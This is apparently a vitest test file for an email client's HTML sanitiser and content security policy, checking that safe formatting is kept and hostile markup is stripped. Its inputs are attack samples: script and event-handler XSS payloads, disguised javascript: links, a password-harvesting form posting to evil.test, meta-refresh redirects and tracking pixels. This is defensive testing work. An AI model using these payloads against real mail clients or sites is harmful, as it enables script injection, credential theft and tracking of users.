// The HTML body sanitiser: what a hostile message tries and what must survive of an ordinary one.
import { describe, expect, it } from 'vitest';
import { htmlContentSecurityPolicy, sanitizeEmailHtml } from '../../server/mail/sanitize-html.ts';

const blocked = { allowRemoteImages: false };
const allowed = { allowRemoteImages: true };

function clean(html: string, options = blocked): string {
  return sanitizeEmailHtml(html, options).html;
}

describe('sanitizeEmailHtml', () => {
  it('keeps ordinary formatting, tables, images and safe inline styles', () => {
    const html =
      '<div style="color: #333; font-family: Arial; padding: 4px"><h2>Hello</h2><p><b>bold</b> <i>it</i> ' +
      '<font color="red" face="Verdana">font</font></p><table width="600" cellpadding="2" bgcolor="#eee">' +
      '<tr><td colspan="2" align="center" valign="top">cell</td></tr></table><ul><li>one</li></ul>' +
      '<blockquote>quoted</blockquote><img src="cid:logo@x" alt="logo" width="10" height="10"><br><hr></div>';
    expect(clean(html)).toBe(
      '<div style="color:#333;font-family:Arial;padding:4px"><h2>Hello</h2><p><b>bold</b> <i>it</i> ' +
        '<font color="red" face="Verdana">font</font></p><table width="600" cellpadding="2" bgcolor="#eee">' +
        '<tr><td colspan="2" align="center" valign="top">cell</td></tr></table><ul><li>one</li></ul>' +
        '<blockquote>quoted</blockquote><img src="cid:logo@x" alt="logo" width="10" height="10" /><br /><hr /></div>',
    );
  });

  it('drops script elements and their content', () => {
    expect(
      clean('<p>a</p><script>alert(1)</script><SCRIPT src="https://x.test/a.js"></SCRIPT><p>b</p>'),
    ).toBe('<p>a</p><p>b</p>');
  });

  it('drops event handler attributes', () => {
    expect(clean('<img src="cid:a" onerror="alert(1)"><p onclick="x()" onmouseover=y>t</p>')).toBe(
      '<img src="cid:a" /><p>t</p>',
    );
    expect(clean('<body onload="alert(1)"><p>x</p></body>')).toBe('<div><p>x</p></div>');
  });

  it('drops javascript:, vbscript: and data: links, however they are disguised', () => {
    for (const href of [
      'javascript:alert(1)',
      ' JaVaScRiPt:alert(1)',
      'jav&#x09;ascript:alert(1)',
      'java\nscript:alert(1)',
      'vbscript:msgbox(1)',
      'data:text/html;base64,PHNjcmlwdD4=',
      '/relative/path',
      'file:///etc/passwd',
    ]) {
      expect(clean(`<a href="${href}">x</a>`), href).toBe('<a>x</a>');
    }
  });

  it('opens links in a new window without opener or referrer', () => {
    expect(clean('<a href="https://example.test/" target="_self" rel="opener">x</a>')).toBe(
      '<a href="https://example.test/" target="_blank" rel="noopener noreferrer">x</a>',
    );
    expect(clean('<a href="mailto:a@example.test">m</a>')).toBe(
      '<a href="mailto:a@example.test" target="_blank" rel="noopener noreferrer">m</a>',
    );
    expect(clean('<a href="#part2">jump</a>')).toBe('<a href="#part2">jump</a>');
  });

  it('drops forms and their controls', () => {
    expect(
      clean(
        '<form action="https://evil.test/steal" method="post"><input name="user"><input type="password">' +
          '<select><option>secret</option></select><textarea>typed</textarea><button>Verify</button></form><p>after</p>',
      ),
    ).toBe('<p>after</p>');
  });

  it('drops meta refresh, base and link', () => {
    expect(
      clean(
        '<html><head><meta http-equiv="refresh" content="0;url=https://evil.test/"><base href="https://evil.test/">' +
          '<link rel="stylesheet" href="https://evil.test/x.css"><title>t</title></head><body><p>x</p></body></html>',
      ),
    ).toBe('<div><p>x</p></div>');
  });

  it('drops iframes, frames, objects and embeds', () => {
    const { html, blockedRemoteResources } = sanitizeEmailHtml(
      '<iframe src="https://evil.test/f">fallback</iframe><object data="https://evil.test/x.swf"><param name=a></object>' +
        '<embed src="https://evil.test/x.swf"><frameset><frame src="https://evil.test/"></frameset><p>ok</p>',
      blocked,
    );
    expect(html).toBe('<p>ok</p>');
    expect(blockedRemoteResources).toBe(3);
  });

  it('drops svg with the script inside it', () => {
    expect(
      clean('<svg onload="alert(1)"><script>alert(2)</script><image href="https://t.test/x"/></svg><p>x</p>'),
    ).toBe('<p>x</p>');
  });

  it('removes url(), @import and expression() from <style>, keeping the rest of the CSS', () => {
    const { html, blockedRemoteResources } = sanitizeEmailHtml(
      '<style>@import url("https://evil.test/x.css"); body { background: url(https://t.test/bg.png) #fff; color: red }' +
        ' .a { width: expression(alert(1)) } .b { background: url(cid:bg@x) } .c { background: u\\72l(//t.test/y) }</style><p>x</p>',
      blocked,
    );
    expect(html).toBe(
      '<style> body { background: none #fff; color: red } .a { width: blocked(alert(1)) } ' +
        '.b { background: url("cid:bg@x") } .c { background: none }</style><p>x</p>',
    );
    expect(blockedRemoteResources).toBe(3);
  });

  it('a <style> element cannot smuggle markup out', () => {
    expect(clean('<style>a { content: "</style><img src=x onerror=alert(1)>" }</style>')).not.toMatch(
      /onerror/,
    );
    expect(clean('<style>p{}</style x><script>alert(1)</script>')).toBe('<style>p{}</style>');
  });

  it('drops url() and expression() from inline styles, keeping the safe declarations', () => {
    const { html, blockedRemoteResources } = sanitizeEmailHtml(
      '<td style="color: red; background-image: url(https://t.test/x.png); width: expression(alert(1)); position: fixed">x</td>',
      blocked,
    );
    expect(html).toBe('<td style="color:red">x</td>');
    expect(blockedRemoteResources).toBe(1);
  });

  it('removes remote images, backgrounds and srcset, and counts them', () => {
    const { html, blockedRemoteResources } = sanitizeEmailHtml(
      '<img src="https://tracker.test/open.gif?id=1" width="1" height="1" alt="">' +
        '<img src="//tracker.test/p.gif"><img srcset="https://t.test/a.png 1x, https://t.test/b.png 2x" src="cid:a">' +
        '<table background="http://t.test/bg.gif"><tr><td>x</td></tr></table>',
      blocked,
    );
    expect(html).toBe(
      '<img width="1" height="1" alt="" /><img /><img src="cid:a" /><table><tr><td>x</td></tr></table>',
    );
    expect(blockedRemoteResources).toBe(4);
  });

  it('keeps remote img src when the viewer allows images, and nothing else remote', () => {
    const { html, blockedRemoteResources } = sanitizeEmailHtml(
      '<img src="https://cdn.test/a.png"><img src="http://cdn.test/b.png"><img src="//cdn.test/c.png">' +
        '<table background="https://t.test/bg.gif"><tr><td style="background:url(https://t.test/x)">x</td></tr></table>' +
        '<img srcset="https://t.test/a.png 2x">',
      allowed,
    );
    expect(html).toBe(
      '<img src="https://cdn.test/a.png" /><img src="http://cdn.test/b.png" /><img />' +
        '<table><tr><td>x</td></tr></table><img />',
    );
    expect(blockedRemoteResources).toBe(4);
  });

  it('keeps cid: references and data: images, but not other data: URLs', () => {
    expect(
      clean(
        '<img src="cid:part1.abc@example.test"><img src="data:image/png;base64,iVBORw0KGgo="><img src="data:image/svg+xml;base64,PHN2Zz4=">' +
          '<img src="data:text/html,<script>alert(1)</script>"><td background="cid:bg">x</td>',
      ),
    ).toBe(
      '<img src="cid:part1.abc@example.test" /><img src="data:image/png;base64,iVBORw0KGgo=" /><img /><img /><td background="cid:bg">x</td>',
    );
  });

  it('text that looks like markup stays text', () => {
    expect(clean('<p>1 &lt; 2 &amp;&amp; &lt;script&gt;</p>')).toBe(
      '<p>1 &lt; 2 &amp;&amp; &lt;script&gt;</p>',
    );
  });
});

describe('htmlContentSecurityPolicy', () => {
  it('allows no script, no form, no base, no remote load unless images are allowed', () => {
    expect(htmlContentSecurityPolicy(blocked)).toBe(
      "default-src 'none'; img-src 'self' data: cid:; style-src 'unsafe-inline'; form-action 'none'; " +
        "frame-ancestors 'self'; base-uri 'none'; sandbox allow-popups allow-popups-to-escape-sandbox",
    );
    expect(htmlContentSecurityPolicy(allowed)).toContain("img-src 'self' data: cid: https: http:;");
    expect(htmlContentSecurityPolicy(allowed)).not.toMatch(
      /script-src|allow-scripts|allow-same-origin|allow-forms/,
    );
  });
});
